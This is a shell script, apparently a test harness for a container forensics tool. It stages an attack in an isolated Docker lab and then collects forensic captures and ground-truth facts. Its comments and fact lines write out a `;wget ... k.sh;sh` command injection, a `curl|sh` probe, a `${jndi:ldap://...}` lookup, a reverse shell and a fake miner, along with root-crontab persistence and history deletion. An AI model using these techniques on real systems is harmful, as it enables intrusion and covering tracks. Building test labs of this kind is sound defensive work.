# shellcheck shell=sh
# Capture harness, Docker, `--multi`: sourced by docker.sh once its private dockerd is up
# (uses its DOCKER, T, OUT, HERE, CTRIAGE, BRIDGE and lib.sh). On one daemon and one internal
# lab network (10.213.2.0/24; the host's bridge is the gateway, 10.213.2.1):
#
#   shop-web    10.213.2.10  victim: busybox httpd -vv with the ping CGI (lab/shop-web:1.0)
#   orders-app  10.213.2.20  victim: the JVM app (lab/orders:1.0), json-file log rotating
#                            (max-size 8k, max-file 3)
#   static-web  10.213.2.30  benign: the same busybox httpd image, benign requests only
#   attacker    10.213.2.66  the attacker's own container (lab/tools:1.0, attacker/multi.sh):
#                            k.sh over HTTP on :8000, a fake pool on :3333, a listener on :4444
#
# Benign traffic comes from the host (the gateway address, as a load balancer's would). The
# attacker (attacker/exploit-multi.sh, `docker exec`) probes shop-web with `;curl ...|sh` in
# the path of a CGI that is not there (404), injects `;wget -q http://ME:8000/k.sh -O
# /tmp/k.sh;sh /tmp/k.sh` into the ping CGI (k.sh drops and starts the fake miner
# /tmp/kdevtmpfsi, which holds a stratum login to ME:3333), then runs exploit-jvm.sh against
# orders-app (a JNDI probe, then the Base64 command lookup: a reverse shell to ME:4444, over
# which listener.sh drops /tmp/.x/agent.sh, a root crontab, and deletes root's history). The
# host then sends orders-app health checks until its log rotates, so the exploit's records
# are in `<id>-json.log.1`.
#
# Writes OUT/bundle/NAME/ for shop-web, orders-app and static-web (`ctriage collect-script
# NAME --out OUT/bundle/NAME`: one bundle directory holding three captures), OUT/facts/NAME.tsv
# for all four containers (facts.tsv's kinds, plus role, address, attacker, probe, stage2,
# pool, rotated), OUT/requests.log (what exploit-multi.sh printed), OUT/attacker.log,
# OUT/collect-NAME.sh; docker.sh then stops the daemon and writes OUT/dataroot.tar.

NET=10.213.2
GW=$NET.1
WEB=$NET.10
JVM=$NET.20
STATIC=$NET.30
ME=$NET.66

# benign HOST PATH [USER-AGENT]: one request from the host (the gateway address); a 404 is
# fine (a browser's favicon).
benign() {
  timeout 5 /bin/busybox wget -q -O /dev/null -U "${3:-Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0}" \
    "http://$1:8080$2" 2> /dev/null || true
}

# pid_of NAME: the container's host PID.
pid_of() { "$DOCKER" inspect -f '{{.State.Pid}}' "$1"; }

say "images: lab/shop-web:1.0 (busybox httpd -vv + ping CGI), lab/tools:1.0 (the attacker's), lab/orders:1.0 (JVM)"
build_rootfs "$T/rootfs-web" web
tar_rootfs "$T/rootfs-web" "$T/rootfs-web.tar"
"$DOCKER" import \
  -c 'CMD ["httpd", "-f", "-vv", "-p", "8080", "-h", "/www"]' -c 'EXPOSE 8080/tcp' -c 'WORKDIR /' \
  -m 'shop-web 1.0: busybox-static + ping CGI' "$T/rootfs-web.tar" lab/shop-web:1.0 > /dev/null
"$DOCKER" import -c 'CMD ["sh"]' -c 'WORKDIR /root' -m 'tools: busybox-static' \
  "$T/rootfs-web.tar" lab/tools:1.0 > /dev/null
build_rootfs "$T/rootfs-jvm" jvm
tar_rootfs "$T/rootfs-jvm" "$T/rootfs-jvm.tar"
"$DOCKER" import \
  -c 'CMD ["/opt/java/bin/java", "-Xmx64m", "-cp", "/app", "OrderService"]' -c 'EXPOSE 8080/tcp' \
  -c 'WORKDIR /app' -c 'ENV JAVA_HOME=/opt/java' \
  -m 'orders 1.0: OpenJDK 17 (jlink) + OrderService' "$T/rootfs-jvm.tar" lab/orders:1.0 > /dev/null
rm -rf "$T/rootfs-web" "$T/rootfs-jvm" "$T/rootfs-web.tar" "$T/rootfs-jvm.tar"

say "network lab-internal $NET.0/24; victims shop-web, orders-app; benign static-web; attacker"
NETWORK_ID=$("$DOCKER" network create --internal --subnet "$NET.0/24" --gateway "$GW" lab-internal)
BRIDGE=br-$(printf '%.12s' "$NETWORK_ID")
"$DOCKER" run -d --name shop-web --hostname shop-web --network lab-internal --ip "$WEB" \
  -e DB_PASSWORD=lab-only-secret lab/shop-web:1.0 > /dev/null
"$DOCKER" run -d --name orders-app --hostname orders-app --network lab-internal --ip "$JVM" \
  --log-driver json-file --log-opt max-size=8k --log-opt max-file=3 \
  -e DB_PASSWORD=lab-only-secret lab/orders:1.0 > /dev/null
"$DOCKER" run -d --name static-web --hostname static-web --network lab-internal --ip "$STATIC" \
  lab/shop-web:1.0 > /dev/null
"$DOCKER" run -d --name attacker --hostname kali --network lab-internal --ip "$ME" -e ME="$ME" \
  -v "$HERE/attacker:/attack:ro" lab/tools:1.0 sh /attack/multi.sh > /dev/null
for n in shop-web orders-app static-web; do
  wait_for "$n's web server" 150 listening "$(pid_of "$n")" 8080
done
for port in 8000 3333 4444; do
  wait_for "the attacker's port $port" 50 listening "$(pid_of attacker)" "$port"
done
ip -4 -o addr show dev "$BRIDGE" | grep -q "inet $GW/" || die "the host has no $GW on $BRIDGE"

say "benign traffic from the host ($GW)"
benign "$STATIC" /
benign "$STATIC" /index.html
benign "$STATIC" /favicon.ico
benign "$WEB" /
benign "$WEB" '/cgi-bin/ping?host=127.0.0.1'
benign "$JVM" /api/orders
sleep 1

say "attack: from the attacker's container ($ME)"
EXPLOIT_AT=$(date -u +%s)
"$DOCKER" exec -e ME="$ME" -e WEB="$WEB" -e JVM="$JVM" attacker sh /attack/exploit-multi.sh \
  > "$OUT/requests.log" 2>&1 || die "exploit-multi.sh failed: $(cat "$OUT/requests.log")"
benign "$STATIC" /
WEB_UPPER=$("$DOCKER" inspect -f '{{.GraphDriver.Data.UpperDir}}' shop-web)
JVM_UPPER=$("$DOCKER" inspect -f '{{.GraphDriver.Data.UpperDir}}' orders-app)
miner_connected() { container_processes "$(pid_of shop-web)" | grep -q "	nc $ME 3333	"; }
i=0
until [ -f "$WEB_UPPER/tmp/kdevtmpfsi" ] && miner_connected && [ -c "$JVM_UPPER/root/.ash_history" ] &&
  "$DOCKER" logs attacker 2>&1 | grep -q attack-done; do
  i=$((i + 1))
  [ "$i" -gt 300 ] && { "$DOCKER" logs attacker >&2 || true; die "the incident did not finish"; }
  sleep 0.1
done

say "orders-app: health checks from the host until its json-file log rotates"
LOGPATH=$("$DOCKER" inspect -f '{{.LogPath}}' orders-app)
i=0
until [ -f "$LOGPATH.1" ]; do
  i=$((i + 1))
  [ "$i" -gt 500 ] && die "orders-app's log did not rotate"
  benign "$JVM" "/healthz?probe=$i" kube-probe/1.29
done
grep -q 'Basic/Command/Base64' "$LOGPATH.1" || die "the exploit is not in ${LOGPATH##*/}.1"
grep -q 'Basic/Command/Base64' "$LOGPATH" && die "the exploit is still in ${LOGPATH##*/}"
[ -f "$LOGPATH.2" ] && die "the log rotated twice"
say "orders-app: the exploit is in ${LOGPATH##*/}.1 ($i health checks)"

ALL="shop-web orders-app static-web attacker"
for n in $ALL; do
  container_processes "$(pid_of "$n")" > "$T/procs-before-$n"
done

say "capture: ctriage collect-script, one bundle directory for the three"
mkdir -p "$OUT/bundle"
for n in shop-web orders-app static-web; do
  "$CTRIAGE" collect-script "$n" --out "$OUT/bundle/$n" > "$OUT/collect-$n.sh"
  CTRIAGE_RUNTIME=$DOCKER sh "$OUT/collect-$n.sh" || die "collect-script's script failed for $n (see $OUT/bundle/$n/collect.log)"
done
for n in $ALL; do
  container_processes "$(pid_of "$n")" > "$T/procs-after-$n"
done

# facts_of NAME ROLE: the facts every container has: runtime, id, name, host pid, image,
# address, role, and the processes alive both before and after the capture.
facts_of() {
  printf 'runtime\tdocker\t%s\n' "$("$DOCKER" version --format '{{.Server.Version}}')"
  printf 'container\t%s\t%s\t%s\n' "$("$DOCKER" inspect -f '{{.Id}}' "$1")" "$1" "$(pid_of "$1")"
  printf 'image\t%s\t%s\n' "$("$DOCKER" inspect -f '{{.Image}}' "$1")" "$("$DOCKER" inspect -f '{{.Config.Image}}' "$1")"
  printf 'address\t%s\n' "$("$DOCKER" inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' "$1")"
  printf 'role\t%s\n' "$2"
  sort "$T/procs-before-$1" "$T/procs-after-$1" | uniq -d
}

say "facts"
mkdir -p "$OUT/facts"
{
  facts_of shop-web victim
  printf 'attacker\t%s\n' "$ME"
  printf 'exploit_sent\t%s\n' "$EXPLOIT_AT"
  # shellcheck disable=SC2034 # file_fact (lib.sh) reads UPPER
  UPPER=$WEB_UPPER
  file_fact added tmp/k.sh
  file_fact added tmp/kdevtmpfsi
  printf 'callback\t%s\t3333\n' "$ME"
  printf 'stage2\thttp://%s:8000/k.sh\n' "$ME"
  printf 'pool\t%s:3333\n' "$ME"
  printf 'way_in\tinjection\n'
  sed -n 's/^injection: /request\t/p' "$OUT/requests.log"
  sed -n 's/^probe: \(.*\)/probe\t\1\t404/p' "$OUT/requests.log"
} > "$OUT/facts/shop-web.tsv"
{
  facts_of orders-app victim
  printf 'attacker\t%s\n' "$ME"
  printf 'exploit_sent\t%s\n' "$EXPLOIT_AT"
  # shellcheck disable=SC2034 # file_fact (lib.sh) reads UPPER
  UPPER=$JVM_UPPER
  file_fact added tmp/.x/agent.sh
  file_fact added var/spool/cron/crontabs/root
  file_fact deleted root/.ash_history
  printf 'callback\t%s\t4444\n' "$ME"
  printf 'jndi\t%s\n' "\${jndi:ldap://$ME:1389/Exploit}"
  printf 'way_in\tjndi\n'
  sed -n 's/^exploit: /jndi_exploit\t/p; s/^command: /jndi_command\t/p' "$OUT/requests.log"
  printf 'rotated\t%s.1\n' "${LOGPATH##*/}"
} > "$OUT/facts/orders-app.tsv"
facts_of static-web benign > "$OUT/facts/static-web.tsv"
facts_of attacker attacker > "$OUT/facts/attacker.tsv"
"$DOCKER" logs attacker > "$OUT/attacker.log" 2>&1

say "stop: kill the containers, stop dockerd, keep its data root"
# shellcheck disable=SC2086 # ALL is four names
"$DOCKER" kill $ALL > /dev/null
